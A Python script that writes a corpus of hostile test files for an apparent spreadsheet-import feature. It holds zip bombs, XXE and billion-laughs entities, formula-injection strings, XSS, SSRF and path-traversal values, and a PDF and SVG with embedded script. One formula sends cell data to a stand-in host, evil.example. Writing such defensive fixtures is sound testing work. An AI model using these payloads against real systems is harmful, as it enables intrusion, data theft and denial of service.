"""Write the bad-input corpus next to this script: `python tests/data/bad/make_corpus.py`.

Deterministic (fixed ZIP timestamps, no openpyxl metadata), so running it again rewrites the same bytes. The
workbooks are written by hand from XML strings: a broken or hostile package is exactly what is wanted, and
openpyxl would refuse to write most of them. Every form sheet has the columns of the product's export and the
municipality code «kirov» of tests/conftest.py, so that only the hostile part of a file is wrong.

What each file must lead to is asserted in tests/test_bad_input.py; the oversize files are made at test time."""

import io
import json
import struct
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).parent
METHODOLOGY = HERE.parents[2] / "fixtures" / "methodology_2020.json"
DATE = (2020, 7, 1, 0, 0, 0)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
WORKBOOK_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORKBOOK_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
HEADERS = [
    "Код критерия",
    "Механизм",
    "Компонент",
    "Критерий",
    "Макс. балл",
    "Описание",
    "Ссылки",
    "Балл координатора",
    "Код муниципалитета",
]
MUNICIPALITY = "kirov"


# --- a hand-made SpreadsheetML package -------------------------------------------------------------------------


def column(index):
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell(ref, value):
    if value is None or value == "":
        return ""
    if isinstance(value, int):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'


def sheet_xml(rows, prolog="", dimension=True):
    """rows: lists of cell values (str, int or None), the first being the header. With `dimension`, the sheet
    starts by declaring its size, as Excel writes it: openpyxl then reads the rows only while they are iterated."""
    body = []
    for number, values in enumerate(rows, start=1):
        cells = "".join(cell(f"{column(i)}{number}", v) for i, v in enumerate(values))
        body.append(f'<row r="{number}">{cells}</row>')
    size = f'<dimension ref="A1:{column(len(HEADERS) - 1)}{len(rows)}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
        f'<worksheet xmlns="{MAIN}">{size}<sheetData>{"".join(body)}</sheetData></worksheet>'
    ).encode()


def criterion_codes():
    data = json.loads(METHODOLOGY.read_text(encoding="utf-8"))
    return [f"{m['code']}.{c['component']}" for m in data["mechanisms"] for c in m["criteria"]]


def form_row(code, description="", links="", points=None):
    return [code, None, None, None, None, description, links, points, MUNICIPALITY]


def form(changes=None):
    """A whole form of «kirov» (every criterion, as the import requires) with {code: (description, links)}."""
    changes = changes or {}
    return [HEADERS] + [form_row(code, *changes.get(code, ("", ""))) for code in criterion_codes()]


def package_parts(sheet, *, workbook_ct=WORKBOOK_CT, extra=None, extra_types=""):
    """The parts of a one-sheet workbook; `sheet` is the bytes of xl/worksheets/sheet1.xml."""
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{workbook_ct}"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SHEET_CT}"/>'
        f"{extra_types}</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
        '<sheet name="город Киров" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": rels.encode(),
        "xl/workbook.xml": workbook.encode(),
        "xl/_rels/workbook.xml.rels": workbook_rels.encode(),
        "xl/worksheets/sheet1.xml": sheet,
    }
    parts.update(extra or {})
    return parts


def xlsx_bytes(sheet, **kwargs):
    """A one-sheet workbook; the tests make their variants with it (e.g. form({...}) with hostile text)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in package_parts(sheet, **kwargs).items():
            info = zipfile.ZipInfo(name, date_time=DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def write_xlsx(name, sheet, **kwargs):
    (HERE / name).write_bytes(xlsx_bytes(sheet, **kwargs))


# --- the corpus --------------------------------------------------------------------------------------------------

GOOD = {
    "1.1.1": ("Приказ управления образования № 12", "https://uo.example.ru/prikaz-12.pdf"),
    "1.1.2": ("Перечень показателей утверждён", "https://uo.example.ru/pokazateli.pdf"),
}

FORMULAS = {
    # criterion: a description that a spreadsheet would run as a formula if it were written as one
    "1.1.1": '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "1.1.2": "=cmd|' /C calc'!A0",
    "1.1.3": "+1+cmd|' /C notepad'!A0",
    "1.1.4": "-2+3+cmd|' /C calc'!A0",
    "1.1.5": "@SUM(1+1)*cmd|' /C calc'!A0",
    "1.1.6": "\t=1+1",
}

STRINGS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{ 7*7 }}",
    "template_tag": "{% debug %}",
    "rtl_override": "отчёт\u202egpj.exe",
    "zero_width": "При\u200bказ\u200d№\ufeff5\u2060",
    "long": "я" * 100_000,
    "nul": "до\x00после",
    "emoji": "Отлично 👍🏽 👨‍👩‍👧 🇷🇺",
    "sql": "'; DROP TABLE assessment_answer; --",
    "formula": "=cmd|' /C calc'!A0",
}

URLS = {
    "javascript": "javascript:alert(1)",
    "javascript_mixed_case": " JaVaScRiPt:alert(document.cookie)",
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "loopback": "http://127.0.0.1/",
    "localhost": "http://localhost:8000/admin/",
    "localhost_subdomain": "http://admin.localhost/",
    "private": "http://10.0.0.1/",
    "private_192": "https://192.168.1.1/login",
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "ipv6_loopback": "http://[::1]/",
    "ipv6_mapped": "http://[::ffff:127.0.0.1]/",
    "unspecified": "http://0.0.0.0:8000/",
    "hex_ip": "http://0x7f000001/",
    "decimal_ip": "http://2130706433/",
    "ftp": "ftp://ftp.example.ru/pub/prikaz.pdf",
    "spaces": "https://uo.example.ru/мой приказ.pdf",
    "newline": "https://uo.example.ru/a.pdf\r\njavascript:alert(1)",
    "credentials": "http://user:pass@127.0.0.1/",
    "nul": "https://uo.example.ru/a\x00.pdf",
    "long": "https://uo.example.ru/" + "a" * 3000,
}

NAMES = {
    # names given at upload time, never files on disk
    "traversal": "../../etc/passwd.xlsx",
    "traversal_windows": "..\\..\\windows\\win.ini.pdf",
    "absolute": "/etc/passwd.pdf",
    "nul": "приказ\x00.pdf",
    "long_latin": "a" * 300 + ".pdf",
    "long_cyrillic": "я" * 250 + ".pdf",
    "html": "<img src=x onerror=alert(1)>.pdf",
    "rtl_override": "приказ\u202efdp.exe",
    "dotfile": ".htaccess",
}


def main():
    HERE.mkdir(parents=True, exist_ok=True)
    (HERE / "not-a-zip.xlsx").write_bytes("Код критерия;Описание\n1.1.1;Это CSV, а не книга Excel\n".encode())
    (HERE / "empty.xlsx").write_bytes(b"")

    write_xlsx("good.xlsx", sheet_xml(form(GOOD)))
    full = (HERE / "good.xlsx").read_bytes()
    (HERE / "truncated.xlsx").write_bytes(full[: len(full) // 2])

    # A sheet of 1 GiB of spaces, 1 MB on disk: the sizes in the ZIP directory are honest.
    head = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'.encode()
    tail = b"</sheetData></worksheet>"
    parts = package_parts(b"")
    del parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(HERE / "zip-bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=DATE), data, compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=DATE)
        info.compress_type = zipfile.ZIP_DEFLATED
        info._compresslevel = 9
        with archive.open(info, "w", force_zip64=True) as sheet:
            sheet.write(head)
            block = b" " * (1 << 20)
            for _ in range(1024):
                sheet.write(block)
            sheet.write(tail)
    write_forged_bomb(head, tail)

    write_xlsx(
        "macros.xlsm",
        sheet_xml(form(GOOD)),
        workbook_ct=MACRO_WORKBOOK_CT,
        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "Module1"\n' * 8},
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    (HERE / "macros-renamed.xlsx").write_bytes((HERE / "macros.xlsm").read_bytes())

    # Well-formed for its first 40 rows, then an element left open: openpyxl fails only when it gets there.
    rows = sheet_xml(form(GOOD)).decode().split("</row>")
    rows[40] = rows[40].replace("<is>", "<is", 1)
    write_xlsx("broken-xml.xlsx", "</row>".join(rows).encode())

    def entity_form(prolog, reference):
        xml = sheet_xml(form({"1.1.1": ("ENTITY_HERE", "https://uo.example.ru/a.pdf")}), prolog=prolog)
        return xml.replace(b"ENTITY_HERE", reference.encode())

    write_xlsx("xxe.xlsx", entity_form('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"))
    entities = '<!ENTITY l0 "hahahahaha">' + "".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    write_xlsx("billion-laughs.xlsx", entity_form(f"<!DOCTYPE worksheet [{entities}]>\n", "&l9;"))

    # A whole form, then 100,000 more rows; no <dimension>, so a reader that wants the size must read them all.
    # The rows have cells without references, as the format allows: 300 KB on disk.
    row = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' if v else "<c/>" for v in form_row("1.1.1", "x"))
    rows = "".join(f'<row r="{n}">{row}</row>' for n in range(len(form()) + 1, len(form()) + 100_001))
    sheet = sheet_xml(form(GOOD), dimension=False).replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    write_xlsx("rows-100000.xlsx", sheet)

    write_xlsx(
        "formula-injection.xlsx",
        sheet_xml(form({code: (text, "https://uo.example.ru/a.pdf") for code, text in FORMULAS.items()})),
    )

    (HERE / "wrong-type-png.xlsx").write_bytes(png())
    (HERE / "wrong-type-pdf.xlsx").write_bytes(pdf())
    (HERE / "png-named.pdf").write_bytes(png())
    (HERE / "script.html").write_bytes(b"<!doctype html><script>alert(document.cookie)</script>\n")
    (HERE / "image.svg").write_bytes(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n'
    )

    for name, data in (("strings.json", STRINGS), ("urls.json", URLS), ("names.json", NAMES)):
        (HERE / name).write_text(json.dumps(data, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


def write_forged_bomb(head, tail):
    """A sheet of 64 MiB of spaces whose ZIP directory claims it unpacks to 1 KB: a reader must stop at the
    declared size (Python's zipfile does, and then reports a bad CRC)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunks, crc = [compressor.compress(head)], zlib.crc32(head)
    block = b" " * (1 << 20)
    for _ in range(64):
        chunks.append(compressor.compress(block))
        crc = zlib.crc32(block, crc)
    chunks += [compressor.compress(tail), compressor.flush()]
    crc = zlib.crc32(tail, crc)
    payload = b"".join(chunks)
    parts = package_parts(b"")
    del parts["xl/worksheets/sheet1.xml"]
    entries = [(name, zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data)) for name, data in parts.items()]
    entries.append(("xl/worksheets/sheet1.xml", payload, crc, 1024))  # the lie: 1 KB
    body, directory = b"", b""
    dos_time, dos_date = 0, ((DATE[0] - 1980) << 9) | (DATE[1] << 5) | DATE[2]
    for name, data, checksum, size in entries:
        encoded = name.encode()
        offset = len(body)
        fields = (20, 0, 8, dos_time, dos_date, checksum, len(data), size, len(encoded))
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + encoded + data
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    (HERE / "zip-bomb-forged-size.xlsx").write_bytes(body + directory + end)


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def pdf():
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


if __name__ == "__main__":
    main()
